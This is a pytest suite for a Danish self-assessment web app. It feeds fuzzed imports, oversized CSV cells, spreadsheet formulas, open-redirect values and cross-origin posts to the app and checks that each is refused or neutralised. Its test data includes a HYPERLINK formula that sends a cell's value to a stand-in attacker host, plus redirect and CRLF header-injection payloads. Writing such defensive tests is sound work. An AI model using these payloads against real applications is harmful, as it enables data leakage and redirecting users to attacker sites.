"""Hostile input: every import, upload, redirect and CLI argument refused cleanly.

Each class of problem from the "exact scores and hostile input" issue has a
test here, and Hypothesis mutates whole documents, CSV files and ``next=``
values: no response may be a 500, no command may print a traceback, and a
refused file changes no row.
"""

from __future__ import annotations

import copy
import csv
import io
import itertools
import json
import re
import zipfile
from html import unescape
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from selfcheck import create_app
from selfcheck.cli import main
from selfcheck.models import Action, Assessment, Participant
from selfcheck.services import exports

from .conftest import QUESTIONS_FILE, Facilitator, Member, csrf_token, html_text
from .test_exchange import answers_csv, load, post_csv, row_counts

# Only the tests that write to the database run on PostgreSQL too (conftest.py): a file
# refused before anything reads the database gains nothing from a second run.
BOTH = pytest.mark.both_databases

FUZZ = settings(max_examples=40, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])


@pytest.fixture
def example(app, runner):
    result = runner.invoke(main, ["demo"])
    assert result.exit_code == 0, result.output
    return result.output.strip().splitlines()[-1].rsplit("/", 1)[1]


@pytest.fixture
def export_document(app, example) -> dict:
    session, assessment = load(app, example)
    document = exports.export_assessment(assessment)
    session.close()
    return document


_clients = itertools.count(1)


def upload(app, raw: bytes):
    """The file uploaded from a browser of its own, on an address of its own: a fuzz run
    imports more files than one client may create in an hour (guards.CREATIONS_PER_CLIENT)."""
    client = app.test_client()
    number = next(_clients)
    client.environ_base["REMOTE_ADDR"] = f"10.{number // 65536 % 256}.{number // 256 % 256}." \
                                         f"{number % 256}"
    page = client.get("/new")
    return client.post("/import", data={
        "csrf_token": csrf_token(page.get_data(as_text=True)),
        "file": (io.BytesIO(raw), "export.json")}, content_type="multipart/form-data")


# Placeholders for what json.dumps cannot write: replaced in the text afterwards.
BIG_INT = "__BIG_INT__"
DEEP = "__DEEP__"


def to_bytes(document) -> bytes:
    text = json.dumps(document, ensure_ascii=False)
    text = text.replace(json.dumps(BIG_INT), "9" * 5000)
    text = text.replace(json.dumps(DEEP), "[" * 60_000 + "]" * 60_000)
    return text.encode("utf-8")


def expect_refused(app, runner, db, tmp_path, raw: bytes, english: str | None = None,
                   danish: str | None = None):
    """The upload answers 400 saying ``danish`` (the page is in Danish); `import` and `report`
    exit 1 without a traceback, on one line that says ``english``."""
    before = row_counts(db)
    response = upload(app, raw)
    assert response.status_code == 400, html_text(response)[:500]
    text = html_text(response)
    assert "Intet blev importeret." in text
    if danish is not None:
        assert danish in text
    path = tmp_path / "hostile.json"
    path.write_bytes(raw)
    for command in (["import", str(path)], ["report", str(path), "-o", str(tmp_path / "x.pdf")]):
        result = runner.invoke(main, command)
        assert result.exit_code == 1, (command, result.output)
        assert isinstance(result.exception, SystemExit)
        assert "Traceback" not in result.output
        assert len(result.output.strip().splitlines()) == 1  # one clear line
        if english is not None:
            assert english in result.output
    assert row_counts(db) == before
    assert not (tmp_path / "x.pdf").exists()
    return text


# Each case: what the command line prints (English) and what the Danish upload page says.
JSON_CASES = {
    "decisions as a number": (lambda d: d.update(decisions=5),
                              "decisions: 5 must be of type array",
                              "decisions: 5 skal have typen array."),
    "actions as a number": (lambda d: d.update(actions=5), "actions: 5 must be of type array",
                            "actions: 5 skal have typen array."),
    "history actions as a number": (
        lambda d: d["history"][0].update(actions=7), "history[0].actions: 7 must be of type array",
        "history[0].actions: 7 skal have typen array."),
    "a date that is no date": (
        lambda d: d["actions"][0].update(due_date="not a date"),
        "actions[0].due_date: 'not a date' is not a date (YYYY-MM-DD)",
        "actions[0].due_date: 'not a date' er ikke en dato (ÅÅÅÅ-MM-DD)."),
    "a date that is a number": (
        lambda d: d["actions"][0].update(due_date=5),
        "actions[0].due_date: 5 must be of type string or null",
        "actions[0].due_date: 5 skal have typen string eller null."),
    "a history date that is no date": (
        lambda d: d["history"][0]["actions"].append(dict(d["actions"][0], due_date="31/12")),
        "'31/12' is not a date (YYYY-MM-DD)", "'31/12' er ikke en dato (ÅÅÅÅ-MM-DD)."),
    "two decisions for one recommendation": (
        lambda d: d["decisions"].append(dict(d["decisions"][0])),
        "already has a decision (decisions[0])", "har allerede en beslutning (decisions[0])."),
    "a 5000-digit integer": (lambda d: d["members"][0]["answers"].update(purpose_why=BIG_INT),
                             "the file contains a whole number of 5000 digits (at most 18)",
                             "Filen indeholder et heltal med 5000 cifre. Det må højst have 18."),
    "nested 60 000 levels deep": (
        lambda d: d.update(extra=DEEP),
        "the file nests lists or objects too deeply (at most 20 levels)",
        "Filen har lister eller objekter inden i hinanden i mere end 20 lag."),
    "a consensus outside the scale": (
        lambda d: d["decisions"][0].update(consensus=9),
        "decisions[0].consensus: 9 is not a score from 1 to 5",
        "decisions[0].consensus: 9 er ikke en score fra 1 til 5."),
    "a comment of 3000 characters": (
        lambda d: d["members"][0]["comments"].update(purpose="x" * 3000),
        "members[0].comments.purpose: 3000 characters, at most 2000",
        "members[0].comments.purpose: Teksten har 3000 tegn. Den må højst have 2000."),
    "an action of 600 characters": (
        lambda d: d["actions"][0].update(text="y" * 600),
        "actions[0].text: 600 characters, at most 500",
        "actions[0].text: Teksten har 600 tegn. Den må højst have 500."),
    "an organisation of 201 characters": (
        lambda d: d["assessment"].update(organisation="K" * 201),
        "assessment.organisation: 201 characters, at most 200",
        "assessment.organisation: Teksten har 201 tegn. Den må højst have 200."),
}


@pytest.mark.parametrize("case", sorted(JSON_CASES))
def test_hostile_json_is_refused_with_its_path(app, runner, db, tmp_path, export_document,
                                               case):
    change, english, danish = JSON_CASES[case]
    document = copy.deepcopy(export_document)
    change(document)
    expect_refused(app, runner, db, tmp_path, to_bytes(document), english, danish)


# The questionnaire's own reasons (core/content.py) are still English sentences: the page
# says in Danish that the file's questionnaire cannot be used, and quotes the reason.
@pytest.mark.parametrize(("weight", "english", "danish"), [
    ("NaN", "the file contains NaN, which is not a number JSON allows",
     "Filen indeholder NaN. Det er ikke et tal, JSON tillader."),
    ("Infinity", "the file contains Infinity, which is not a number JSON allows",
     "Filen indeholder Infinity. Det er ikke et tal, JSON tillader."),
    ("1e308", "questionnaire.themes[0].questions[0].weight: must be greater than 0 and at most "
              "100, not 1e+308",
     "questionnaire.themes[0].questions[0].weight: Spørgeskemaet i filen kan ikke bruges (must "
     "be greater than 0 and at most 100, not 1e+308)."),
    ("1e999", "the file contains the number 1e999, which is too large",
     "Filen indeholder tallet 1e999, som er for stort."),
])
def test_weights_must_be_finite_and_sane(app, runner, db, tmp_path, export_document, weight,
                                         english, danish):
    document = copy.deepcopy(export_document)
    document["questionnaire"]["themes"][0]["questions"][0]["weight"] = "__WEIGHT__"
    document["questionnaire_hash"] = "0" * 64
    raw = to_bytes(document).replace(b'"__WEIGHT__"', weight.encode())
    expect_refused(app, runner, db, tmp_path, raw, english, danish)


def test_a_huge_declared_scale_gives_a_short_answer(app, runner, db, tmp_path, export_document):
    document = copy.deepcopy(export_document)
    document["questionnaire"]["scale"]["min"] = 0
    document["questionnaire"]["scale"]["max"] = 200_000
    text = expect_refused(app, runner, db, tmp_path, to_bytes(document),
                          "questionnaire.scale.max: must lie between -100 and 100",
                          "questionnaire.scale.max: Spørgeskemaet i filen kan ikke bruges (must "
                          "lie between -100 and 100).")
    assert len(text) < 5000


def test_many_problems_are_capped(app, runner, db, tmp_path, export_document):
    document = copy.deepcopy(export_document)
    for member in document["members"]:
        member["answers"].update({f"unknown_{i}": 3 for i in range(40)})
    # 12 members × 40 unknown statements = 480 problems: 50 listed, then the rest counted
    text = expect_refused(app, runner, db, tmp_path, to_bytes(document), "… and 430 more",
                          "Ukendt udsagn. … og 430 til")
    assert text.count("Ukendt udsagn.") == 50


def test_weights_in_questions_toml_must_be_finite(tmp_path, runner):
    source = QUESTIONS_FILE.read_text(encoding="utf-8")
    for literal, message in (("nan", "nan is not a finite number"),
                             ("inf", "inf is not a finite number"),
                             ("1e308", "must be greater than 0 and at most 100, not 1e+308")):
        path = tmp_path / f"{literal}.toml"
        path.write_text(source.replace('id = "purpose_why"',
                                       f'id = "purpose_why"\nweight = {literal}', 1),
                        encoding="utf-8")
        result = runner.invoke(main, ["check", str(path)])
        assert result.exit_code == 1, result.output
        assert f".weight: {message}" in result.output


@st.composite
def hostile_values(draw):
    return draw(st.one_of(
        st.none(), st.booleans(), st.integers(-10**6, 10**6), st.sampled_from([BIG_INT, DEEP]),
        st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=30),
        st.sampled_from(["not a date", "2027-02-30", "", "x" * 3000, "=1+1", "planned"]),
        st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(),
                                                             max_size=3),
    ))


def node_paths(value, path=()):
    yield path
    if isinstance(value, dict):
        for key, child in value.items():
            yield from node_paths(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value[:3]):
            yield from node_paths(child, (*path, index))


@BOTH
@FUZZ
@given(data=st.data())
def test_fuzzed_json_never_breaks_anything(app, runner, db, tmp_path, export_document, data):
    document = copy.deepcopy(export_document)
    paths = [p for p in node_paths(document) if p and p[0] != "questionnaire"] + \
        [p for p in node_paths(document["questionnaire"]) if len(p) <= 4]
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from(paths))
        parent = document
        try:
            for key in path[:-1]:
                parent = parent[key]
            parent[path[-1]] = data.draw(hostile_values())
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change replaced this part
    raw = to_bytes(document)
    before = row_counts(db)
    response = upload(app, raw)
    assert response.status_code in (302, 400)
    if response.status_code == 400:
        assert row_counts(db) == before
    else:
        assert row_counts(db)[0] == before[0] + 1
    path = tmp_path / "fuzz.json"
    path.write_bytes(raw)
    result = runner.invoke(main, ["import", str(path)])
    assert result.exit_code in (0, 1) and "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    if response.status_code == 400:  # the offline report refuses it the same way
        result = runner.invoke(main, ["report", str(path), "-o", str(tmp_path / "f.pdf")])
        assert result.exit_code == 1 and isinstance(result.exception, SystemExit)


# ----------------------------------------------------------------------------- CSV


@BOTH
def test_a_csv_cell_of_140000_characters_is_refused(app, facilitator, questionnaire, db):
    facilitator.create(answers="named")
    rows = [{"member": "r1", "name": "A" * 140_000, **{q.id: "3" for q in
                                                       questionnaire.questions}}]
    before = row_counts(db)
    response = post_csv(facilitator, answers_csv(questionnaire, rows))
    assert response.status_code == 400
    assert "Filen kan ikke læses som CSV: field larger than field limit (131072)" in \
        html_text(response)
    rows[0]["name"] = "A" * 101
    rows[0]["comment:purpose"] = "k" * 2001
    response = post_csv(facilitator, answers_csv(questionnaire, rows))
    assert response.status_code == 400
    text = html_text(response)
    assert "Række 2, kolonne name: Teksten har 101 tegn. Den må højst have 100." in text
    assert "Række 2, kolonne comment:purpose: Teksten har 2001 tegn. Den må højst have 2000." \
        in text
    assert row_counts(db) == before


CSV_CELLS = st.one_of(
    st.text(max_size=20), st.sampled_from(["", "3", "7", "dk", "=1+1", "'=1+1", "\x00", "a\nb",
                                            '"', "x" * 3000, ",,,", "-1"]))


@BOTH
@FUZZ
@given(data=st.data())
def test_fuzzed_csv_never_breaks_anything(app, facilitator, questionnaire, db, data):
    if facilitator.token is None:
        facilitator.create(answers="named")
    columns = ["member", "name"] + [q.id for q in questionnaire.questions] + ["comment:purpose"]
    rows = [[f"r{i}", f"P{i}"] + ["3"] * len(questionnaire.questions) + [""] for i in range(3)]
    for _ in range(data.draw(st.integers(1, 4))):
        row = data.draw(st.sampled_from(rows))
        column = data.draw(st.integers(0, len(columns) - 1))
        row[column] = data.draw(CSV_CELLS)
    if data.draw(st.booleans()):
        rows[0] = rows[0][: data.draw(st.integers(0, len(columns)))]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows(rows)
    raw = buffer.getvalue().encode("utf-8")
    if data.draw(st.booleans()):
        raw = raw.replace(b"P1", data.draw(st.binary(max_size=4)))
    before = row_counts(db)
    response = post_csv(facilitator, raw)
    assert response.status_code in (302, 400)
    if response.status_code == 400:
        assert row_counts(db) == before


# ----------------------------------------------------------------------------- spreadsheets

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def named_member(app, facilitator, questionnaire, name, comment=""):
    member = Member(app, facilitator.join_url()).join(name)
    member.answer_all(questionnaire, {q.id: 3 for q in questionnaire.questions},
                      {"purpose": comment})
    member.submit()


def test_formulas_are_written_as_text_in_csv_and_xlsx(app, facilitator, questionnaire):
    facilitator.create(answers="named")
    for name in (FORMULA, "+SUM(1)", "-2+3", "@cmd", "Ane"):
        named_member(app, facilitator, questionnaire, name)
    answers = facilitator.client.get(f"{facilitator.results_url}/export-answers.csv")
    names = {row["name"] for row in csv.DictReader(io.StringIO(answers.data.decode()))}
    assert names == {"'" + FORMULA, "'+SUM(1)", "'-2+3", "'@cmd", "Ane"}
    raw = facilitator.client.get(f"{facilitator.results_url}/export.xlsx").data
    sheet = load_workbook(io.BytesIO(raw))["Svar"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2, values_only=False)]
    assert {c.value for c in cells} == {FORMULA, "+SUM(1)", "-2+3", "@cmd", "Ane"}
    assert {c.data_type for c in cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


@BOTH
def test_the_csv_import_brings_guarded_values_back_as_plain_text(app, facilitator,
                                                                   questionnaire, db):
    facilitator.create(answers="named")
    rows = [{"member": "r1", "name": "'=1+1", **{q.id: "3" for q in questionnaire.questions},
             "comment:purpose": "'@SUM(A1)"}]
    assert post_csv(facilitator, answers_csv(questionnaire, rows)).status_code == 302
    assert db.scalars(select(Participant.display_name)).all() == ["=1+1"]
    exported = facilitator.client.get(f"{facilitator.results_url}/export-answers.csv")
    assert {row["name"] for row in csv.DictReader(io.StringIO(exported.data.decode()))} == \
        {"'=1+1"}


# ----------------------------------------------------------------------------- redirects


def is_same_site(location: str) -> bool:
    """What a browser would do with Location: drop tab/CR/LF, then it must stay on this site."""
    cleaned = "".join(c for c in location if c not in "\t\r\n")
    parts = urlsplit(cleaned)
    return (cleaned.startswith("/") and not cleaned.startswith("//") and "\\" not in cleaned
            and not parts.scheme and not parts.netloc)


NEXT_VALUES = st.one_of(
    st.sampled_from(["/\t/evil.example/", "/\n/evil.example", "//evil.example", "/\\evil.example",
                     "https://evil.example", "/%09/evil.example", "/\r\nSet-Cookie: x=1", " /x",
                     "/ok#frag", "javascript:alert(1)", "/\x00", "/\u2028/evil.example"]),
    st.builds(lambda a, b: a + b, st.sampled_from(["/", "//", "/\t", "\\", ""]),
              st.text(max_size=20)),
)


@pytest.fixture
def with_action(app, example, db):
    """The example's facilitator token and a fresh action each call."""
    def make():
        assessment = db.scalars(select(Assessment).order_by(Assessment.id.desc())).first()
        action = Action(assessment_id=assessment.id, theme_id="purpose", text="T")
        db.add(action)
        db.commit()
        return action.id
    return example, make


@FUZZ
@given(target=NEXT_VALUES)
def test_every_redirect_stays_on_this_site(app, with_action, db, target):
    token, make_action = with_action
    client = app.test_client()
    page = client.get("/")
    csrf = csrf_token(page.get_data(as_text=True))
    responses = [client.post("/language", data={"lang": "en", "next": target,
                                                "csrf_token": csrf})]
    action_id = make_action()
    responses.append(client.get(f"/f/{token}/actions/{action_id}", query_string={"next": target}))
    responses.append(client.post(f"/f/{token}/actions/{action_id}",
                                 query_string={"next": target},
                                 data={"csrf_token": csrf, "text": "Ny tekst", "status": "done"}))
    responses.append(client.post(f"/f/{token}/actions/{action_id}/delete",
                                 data={"csrf_token": csrf, "next": target}))
    for response in responses:
        assert response.status_code in (200, 302), response.status_code
        if response.status_code == 302:
            assert is_same_site(response.headers["Location"]), response.headers["Location"]
        else:  # the edit page's hidden next fields and its Cancel link
            html = response.get_data(as_text=True)
            backs = re.findall(r'name="next" value="([^"]*)"', html)
            backs += re.findall(r'<a[^>]*href="([^"]*)"[^>]*>(?:Annuller|Cancel)', html)
            assert len(backs) >= 3
            assert all(is_same_site(unescape(b)) for b in backs), backs
    assert db.get(Action, action_id) is None  # the delete went through, safely redirected


def test_the_404_page_language_switch_does_not_lead_away(client):
    page = client.get("/%09/evil.example/")
    assert page.status_code == 404
    html = page.get_data(as_text=True)
    response = client.post("/language", data={
        "lang": "en", "next": "/\t/evil.example/", "csrf_token": csrf_token(html)})
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


# ----------------------------------------------------------------------------- forms


def test_a_blank_action_gets_the_same_message_as_the_edit_form(app, example, db):
    client = app.test_client()
    page = client.get(f"/f/{example}/workshop/1")
    before = row_counts(db)
    response = client.post(f"/f/{example}/workshop/1/actions", data={
        "csrf_token": csrf_token(page.get_data(as_text=True)), "text": "   ",
        "status": "planned"})
    assert response.status_code == 400
    assert "Beskriv handlingen." in html_text(response)
    assert row_counts(db) == before


# ----------------------------------------------------------------------------- proxies


def proxied_app(tmp_path, migrated_database, **config):
    import shutil

    database = tmp_path / "proxy.sqlite"
    shutil.copyfile(migrated_database, database)
    return create_app({"TESTING": True, "SECRET_KEY": "t", "QUESTIONS_FILE": str(QUESTIONS_FILE),
                       "DATABASE_URL": f"sqlite:///{database}", **config})


HTTPS = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "selfcheck.example.dk",
         "X-Forwarded-For": "10.0.0.9"}


def test_behind_a_trusted_proxy_the_session_cookie_is_secure(tmp_path, migrated_database):
    app = proxied_app(tmp_path, migrated_database, TRUSTED_PROXIES=1)
    response = app.test_client().get("/new", headers=HTTPS)
    assert "Secure" in response.headers["Set-Cookie"]
    assert "HttpOnly" in response.headers["Set-Cookie"]
    # a plain HTTP request through the same proxy gets no Secure flag (it would be dropped)
    response = app.test_client().get("/new", headers={"X-Forwarded-Proto": "http"})
    assert "Secure" not in response.headers["Set-Cookie"]
    app.extensions["db_engine"].dispose()


def test_forwarded_headers_are_ignored_unless_trusted(client):
    response = client.get("/new", headers=HTTPS)
    assert "Secure" not in response.headers["Set-Cookie"]


def test_https_forms_work_without_a_referer_behind_the_proxy(tmp_path, migrated_database):
    """Referrer-Policy: no-referrer means browsers send none; the Origin check replaces it."""
    app = proxied_app(tmp_path, migrated_database, TRUSTED_PROXIES=1)
    facilitator = Facilitator(app)
    facilitator.client.environ_base.update(
        {"HTTP_X_FORWARDED_PROTO": "https", "HTTP_X_FORWARDED_HOST": "selfcheck.example.dk"})
    page = facilitator.client.get("/new")
    response = facilitator.client.post("/new", headers={"Origin": "https://selfcheck.example.dk"},
                                       data={"csrf_token": csrf_token(page.get_data(as_text=True)),
                                             "organisation": "K", "team": "T", "language": "da",
                                             "answers": "anonymous",
                                             "reveal": "when_revealed"})
    assert response.status_code == 302
    app.extensions["db_engine"].dispose()


@pytest.mark.parametrize(("origin", "status"), [
    ("https://evil.example", 403), ("http://localhost.evil.example", 403),
    ("http://localhost", 302), ("null", 302), (None, 302),
])
def test_state_changes_from_another_origin_are_refused(client, db, origin, status):
    page = client.get("/new")
    headers = {"Origin": origin} if origin else {}
    before = row_counts(db)
    response = client.post("/new", headers=headers, data={
        "csrf_token": csrf_token(page.get_data(as_text=True)), "organisation": "K",
        "team": "T", "language": "da", "answers": "anonymous", "reveal": "when_revealed"})
    assert response.status_code == status
    if status == 403:
        assert "Formularen blev sendt fra et andet websted." in html_text(response)
        assert row_counts(db) == before


# ----------------------------------------------------------------------------- CLI


def test_cli_commands_on_a_database_that_was_never_upgraded(tmp_path):
    app = create_app({"SECRET_KEY": "t", "QUESTIONS_FILE": str(QUESTIONS_FILE),
                      "DATABASE_URL": f"sqlite:///{tmp_path / 'empty.sqlite'}"})
    runner = app.test_cli_runner()
    for command in (["demo"], ["export", "1", "-o", str(tmp_path / "x.json")]):
        result = runner.invoke(main, command)
        assert result.exit_code == 1
        assert result.output == ("Error: the database is not set up or is out of date: run "
                                 "`selfcheck db upgrade` first\n")
    app.extensions["db_engine"].dispose()


def test_cli_errors_are_one_line(tmp_path, runner, example):
    cases = [
        (["export", "9" * 5000, "-o", str(tmp_path / "x.json")],
         "Error: no assessment has that number or facilitator token\n"),
        (["export", f"/f/{example}", "-o", str(tmp_path / "missing" / "x.json")],
         f"Error: {tmp_path / 'missing' / 'x.json'}: No such file or directory\n"),
        (["report", str(QUESTIONS_FILE), "-o", str(tmp_path / "x.pdf")],
         f"Error: {QUESTIONS_FILE}: the file is not JSON: Expecting value (line 1, column 1)\n"),
    ]
    for command, output in cases:
        result = runner.invoke(main, command)
        assert (result.exit_code, result.output) == (1, output)


def test_a_bad_setting_is_one_line(monkeypatch):
    from click.testing import CliRunner

    monkeypatch.setenv("SELFCHECK_TRUSTED_PROXIES", "many")
    result = CliRunner().invoke(main, ["demo"])
    assert (result.exit_code, result.output) == (
        1, "Error: SELFCHECK_TRUSTED_PROXIES must be a whole number from 0 to 5, not 'many'\n")


@pytest.mark.parametrize(("name", "value", "message"), [
    ("SELFCHECK_CREATE", "everyone",
     "SELFCHECK_CREATE must be one of anyone, accounts, not 'everyone'"),
    ("SELFCHECK_SIGNUP", "Open", "SELFCHECK_SIGNUP must be one of open, closed, not 'Open'"),
    ("SELFCHECK_ALLOWED_HOSTS", "https://selfcheck.example.dk",
     "SELFCHECK_ALLOWED_HOSTS must be host names separated by commas, such as "
     "selfcheck.example.dk,www.selfcheck.example.dk, not 'https://selfcheck.example.dk'"),
    ("SELFCHECK_ALLOWED_HOSTS", " , ",
     "SELFCHECK_ALLOWED_HOSTS must be host names separated by commas, such as "
     "selfcheck.example.dk,www.selfcheck.example.dk, not ' , '"),
    ("SELFCHECK_ALLOWED_HOSTS", "evil.example/x",
     "SELFCHECK_ALLOWED_HOSTS must be host names separated by commas, such as "
     "selfcheck.example.dk,www.selfcheck.example.dk, not 'evil.example/x'"),
    ("SELFCHECK_PUBLIC_URL", "selfcheck.example.dk",
     "SELFCHECK_PUBLIC_URL must be an address such as https://selfcheck.example.dk, "
     "not 'selfcheck.example.dk'"),
    ("SELFCHECK_RETENTION_DAYS", "0",
     "SELFCHECK_RETENTION_DAYS must be a whole number from 1 to 36500, not '0'"),
])
def test_each_bad_setting_is_refused_in_one_line_naming_it(monkeypatch, name, value, message):
    from click.testing import CliRunner

    monkeypatch.setenv(name, value)
    result = CliRunner().invoke(main, ["demo"])
    assert (result.exit_code, result.output) == (1, f"Error: {message}\n")


def test_a_wide_scale_is_refused_before_anything_is_built(app, runner, db, tmp_path,
                                                         export_document):
    document = copy.deepcopy(export_document)
    document["questionnaire"]["scale"].update(min=0, max=90)
    expect_refused(app, runner, db, tmp_path, to_bytes(document),
                   "questionnaire.scale.max: the scale 0–90 has 91 points, at most 11",
                   "questionnaire.scale.max: Spørgeskemaet i filen kan ikke bruges (the scale "
                   "0–90 has 91 points, at most 11).")


def test_the_schema_states_the_same_limits_as_the_forms():
    from selfcheck import limits
    from selfcheck.web.answer.forms import JoinForm, StepForm
    from selfcheck.web.start.forms import CreateAssessmentForm
    from selfcheck.web.workshop.forms import ActionForm, DecisionForm

    schema = json.loads((QUESTIONS_FILE.parent / "docs/export-schema.json").read_text())
    props = schema["properties"]
    member = props["members"]["items"]["properties"]
    action = schema["$defs"]["action"]["properties"]
    assert props["assessment"]["properties"]["organisation"]["maxLength"] == \
        limits.ORGANISATION_MAX
    assert props["assessment"]["properties"]["team"]["maxLength"] == limits.TEAM_MAX
    assert member["name"]["maxLength"] == limits.NAME_MAX
    assert member["comments"]["additionalProperties"]["maxLength"] == limits.COMMENT_MAX
    assert props["decisions"]["items"]["properties"]["note"]["maxLength"] == limits.NOTE_MAX
    assert (action["text"]["maxLength"], action["owner"]["maxLength"]) == (
        limits.ACTION_MAX, limits.NAME_MAX)
    assert props["members"]["maxItems"] == limits.MEMBERS_MAX
    assert props["actions"]["maxItems"] == limits.ACTIONS_MAX
    assert props["history"]["maxItems"] == limits.HISTORY_MAX

    def max_length(field):
        return next(v.max for v in field.kwargs["validators"] if hasattr(v, "max"))

    assert max_length(CreateAssessmentForm.organisation) == limits.ORGANISATION_MAX
    assert max_length(CreateAssessmentForm.team) == limits.TEAM_MAX
    assert max_length(JoinForm.display_name) == limits.NAME_MAX
    assert max_length(StepForm.comment) == limits.COMMENT_MAX
    assert max_length(DecisionForm.note) == limits.NOTE_MAX
    assert max_length(ActionForm.text) == limits.ACTION_MAX
    assert max_length(ActionForm.owner) == limits.NAME_MAX
    # the organisation's forms
    from selfcheck.web.organisations.forms import LevelForm, OrganisationForm, TeamForm

    assert max_length(OrganisationForm.name) == limits.ORGANISATION_MAX
    assert max_length(TeamForm.team) == limits.TEAM_MAX
    assert max_length(LevelForm.name_da) == max_length(LevelForm.name_en) == \
        limits.LEVEL_NAME_MAX


@BOTH
def test_member_and_action_counts_are_bounded_everywhere(app, questionnaire, db, monkeypatch):
    from selfcheck.services import answers, assessments, workshop

    monkeypatch.setattr(answers, "MEMBERS_MAX", 1)
    monkeypatch.setattr(assessments, "MEMBERS_MAX", 1)
    monkeypatch.setattr(workshop, "ACTIONS_MAX", 0)
    facilitator = Facilitator(app).create(answers="named")
    Member(app, facilitator.join_url()).join("Ane")
    second = Member(app, facilitator.join_url())
    page = second.client.get(second.join_url)
    before = row_counts(db)
    response = second.client.post(second.join_url, data={
        "csrf_token": csrf_token(page.get_data(as_text=True)), "display_name": "Bo"})
    assert response.status_code == 409
    assert "Der er ikke plads til flere medlemmer" in html_text(response)
    rows = [{"member": "r1", **{q.id: "3" for q in questionnaire.questions}}]
    response = post_csv(facilitator, answers_csv(questionnaire, rows))
    assert response.status_code == 400
    assert "Filen har 1 medlemmer, men der er kun plads til 0 flere i denne selvevaluering " \
        "(højst 1)." in html_text(response)
    page = facilitator.client.get(f"{facilitator.results_url}/workshop/1")
    response = facilitator.client.post(f"{facilitator.results_url}/workshop/1/actions", data={
        "csrf_token": csrf_token(page.get_data(as_text=True)), "text": "Gør noget",
        "status": "planned"})
    assert response.status_code == 409
    assert row_counts(db) == before
